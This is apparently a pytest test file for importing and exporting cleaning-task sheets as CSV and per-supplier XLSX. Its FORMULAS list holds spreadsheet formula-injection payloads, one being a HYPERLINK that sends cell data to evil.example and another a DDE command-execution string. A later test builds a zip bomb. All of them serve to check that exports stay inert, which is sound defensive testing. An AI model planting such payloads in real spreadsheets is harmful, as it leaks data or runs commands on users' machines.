"""Task sheets: CSV and one-sheet-per-supplier XLSX in and out, errors naming the row."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bundler.io.task_sheets import (
    MAX_IMPORT_BYTES,
    SheetError,
    merge_rows,
    read_tasks_csv,
    read_tasks_xlsx,
    tasks_csv,
    tasks_xlsx,
    template_csv,
    template_xlsx,
)
from bundler.tables import check_tables, to_tables

DATA = Path(__file__).resolve().parents[1] / "data"


def tutorial_tables():
    return to_tables(json.loads((DATA / "tutorial.json").read_text()))


@pytest.mark.parametrize("write, read", [(tasks_csv, read_tasks_csv), (tasks_xlsx, read_tasks_xlsx)], ids=["csv", "xlsx"])
def test_export_then_import_keeps_every_task(write, read):
    """Exported tasks read back into an emptied table give a valid, identical task list, hygiene included."""
    tables = tutorial_tables()
    tables.rows["tasks"][0]["hygiene"], tables.rows["tasks"][1]["hygiene"] = "dirty", "food"
    exported = write(tables.rows["tasks"])
    original = check_tables(tables).task_file
    assert [t.hygiene for t in original.tasks[:3]] == ["dirty", "food", None]
    tables.rows["tasks"] = []
    replaced, added = merge_rows(tables, read(exported))
    assert (replaced, added) == (0, len(original.tasks))
    again = check_tables(tables).task_file
    assert sorted(t.model_dump_json() for t in again.tasks) == sorted(t.model_dump_json() for t in original.tasks)


def test_templates_are_readable_examples():
    """Both templates import without problems and show the hygiene column filled in."""
    assert [r["hygiene"] for r in read_tasks_csv(template_csv())] == ["dirty", "food"]
    assert {r["supplier"] for r in read_tasks_xlsx(template_xlsx())} == {"asito", "sodexo"}
    header = [c.value for c in load_workbook(io.BytesIO(template_xlsx())).worksheets[0][1]]
    assert header[-1] == "hygiene"


def test_xlsx_has_one_sheet_per_supplier():
    """The supplier is the sheet; its column is not repeated."""
    book = load_workbook(io.BytesIO(tasks_xlsx(tutorial_tables().rows["tasks"])))
    assert set(book.sheetnames) == {r["supplier"] for r in tutorial_tables().rows["tasks"]}
    assert "supplier" not in [c.value for c in book.worksheets[0][1]]


def test_semicolon_csv_from_dutch_excel():
    """Dutch Excel writes ';' as separator and a BOM; both are understood."""
    text = "id;supplier;title;location;skills;slots\nT9;asito;Ramen;edu;;ma-vr 07:00-09:00\n"
    rows = read_tasks_csv(("\ufeff" + text).encode("utf-8"))
    assert rows[0]["id"] == "T9" and rows[0]["slots"] == "ma-vr 07:00-09:00"


def _xlsx(rows_by_sheet: dict[str, list[list]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name, rows in rows_by_sheet.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("reader, content, words", [
    (read_tasks_csv, b"", ["empty"]),
    (read_tasks_csv, b"id,title\nT1,x\n", ["row 1", "missing column", "supplier"]),
    (read_tasks_csv, b"id,supplier,title,location,skills,slots\nT1,asito,x,,,ma 07:00-09:00\n", ["row 2", "location"]),
    (read_tasks_csv, "id,supplier\nT1,caf\xe9\n".encode("latin-1"), ["UTF-8"]),
    (read_tasks_csv, b" " * (MAX_IMPORT_BYTES + 1), ["MB"]),
    (read_tasks_xlsx, b"not a workbook", ["not an Excel workbook"]),
    (read_tasks_xlsx, _xlsx({"asito": [["id", "title", "location", "skills", "slots"], ["T1", "x", "edu", "", ""]]}),
     ["sheet asito", "row 2", "slots"]),
    (read_tasks_xlsx, _xlsx({"leeg": [[]]}), ["no sheet holds tasks"]),
], ids=["empty", "missing-columns", "empty-cell", "not-utf8", "huge", "not-xlsx", "xlsx-empty-slots", "xlsx-no-tasks"])
def test_broken_sheets_name_the_row(reader, content, words):
    """Each broken file gives a message that names the sheet/row and the problem."""
    with pytest.raises(SheetError) as caught:
        reader(content, "upload")
    message = "\n".join(caught.value.problems)
    assert all(w in message for w in words), message


def test_same_id_replaces_new_id_adds():
    """Importing a corrected row replaces the old one instead of duplicating it."""
    tables = tutorial_tables()
    before = len(tables.rows["tasks"])
    first = dict(tables.rows["tasks"][0], title="Nieuwe titel", _source="x")
    new = dict(first, id="T99")
    assert merge_rows(tables, [first, new]) == (1, 1)
    assert len(tables.rows["tasks"]) == before + 1 and tables.rows["tasks"][0]["title"] == "Nieuwe titel"


def test_screening_columns_round_trip_and_a_sheet_without_them_keeps_them():
    """Screening levels travel through CSV; importing a sheet without those columns leaves them as they were."""
    tables = tutorial_tables()
    rows = read_tasks_csv(tasks_csv(tables.rows["tasks"]))
    assert rows[0]["physical_load"] == tables.rows["tasks"][0]["physical_load"] == "high"
    bare = "id,supplier,title,location,skills,slots\nT01,asito,Nieuw,edu,,ma 07:00-09:00\n".encode()
    merge_rows(tables, read_tasks_csv(bare))
    task = check_tables(tables).task_file.task_by_id()["T01"]
    assert task.title == "Nieuw" and task.physical_load == "high"
    tables.rows["tasks"][0]["pace"] = ""
    assert check_tables(tables).task_file.task_by_id()["T01"].pace is None


def test_a_sheet_without_the_hygiene_column_keeps_it_and_a_bad_class_names_the_row():
    """Like the screening columns: a missing column leaves hygiene as it was; an unknown class is named."""
    tables = tutorial_tables()
    tables.rows["tasks"][0]["hygiene"] = "dirty"
    bare = "id,supplier,title,location,skills,slots\nT01,asito,Nieuw,edu,,ma 07:00-09:00\n".encode()
    merge_rows(tables, read_tasks_csv(bare))
    assert check_tables(tables).task_file.task_by_id()["T01"].hygiene == "dirty"
    wrong = "id,supplier,title,location,skills,slots,hygiene\nT01,asito,x,edu,,ma 07:00-09:00,vies\n".encode()
    merge_rows(tables, read_tasks_csv(wrong))
    assert "task T01, field hygiene" in check_tables(tables).by_row[("tasks", 1)][0]


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def test_titles_that_look_like_formulas_stay_text_in_csv_and_xlsx_and_round_trip():
    """A title starting with = + - @ tab or CR is no live formula in either export, and imports back unchanged."""
    tables = tutorial_tables()
    rows = tables.rows["tasks"][:len(FORMULAS)]
    for row, title in zip(rows, FORMULAS):
        row["title"] = title
    text = tasks_csv(rows).decode("utf-8-sig")
    cells = [line.split(",", 3)[2] for line in text.splitlines()[1:]]
    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    book = load_workbook(io.BytesIO(tasks_xlsx(rows)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert set(FORMULAS) <= {c.value for c in cells}
    for read, data in ((read_tasks_csv, tasks_csv(rows)), (read_tasks_xlsx, tasks_xlsx(rows))):
        back = {r["id"]: r["title"] for r in read(data)}
        assert [back[r["id"]] for r in rows] == [t.strip() for t in FORMULAS]


def test_a_supplier_id_that_cannot_name_a_sheet_gets_a_clean_sheet_and_a_supplier_column():
    """`Schoon/Snel: [BV]` cannot be a sheet title: the sheet is renamed, the id rides along and imports back."""
    tables = tutorial_tables()
    rows = [dict(r, supplier="Schoon/Snel: [BV]" if r["supplier"] == "asito" else r["supplier"])
            for r in tables.rows["tasks"]]
    book = load_workbook(io.BytesIO(tasks_xlsx(rows)))
    assert "SchoonSnel BV" in book.sheetnames and all(len(name) <= 31 for name in book.sheetnames)
    back = read_tasks_xlsx(tasks_xlsx(rows))
    assert sorted((r["id"], r["supplier"]) for r in back) == sorted((r["id"], r["supplier"]) for r in rows)


def test_a_workbook_that_unpacks_far_beyond_a_task_sheet_is_refused_unopened():
    """A zip bomb: 1 MB on the wire, hundreds of MB unpacked; refused with the limit, before openpyxl reads it."""
    import zipfile

    from bundler.io.task_sheets import MAX_UNPACKED_BYTES

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"\0" * (MAX_UNPACKED_BYTES + 1))
    assert len(out.getvalue()) < MAX_IMPORT_BYTES
    with pytest.raises(SheetError) as refused:
        read_tasks_xlsx(out.getvalue(), "bom.xlsx")
    assert "bom.xlsx" in refused.value.problems[0] and "MB a task workbook can hold" in refused.value.problems[0]
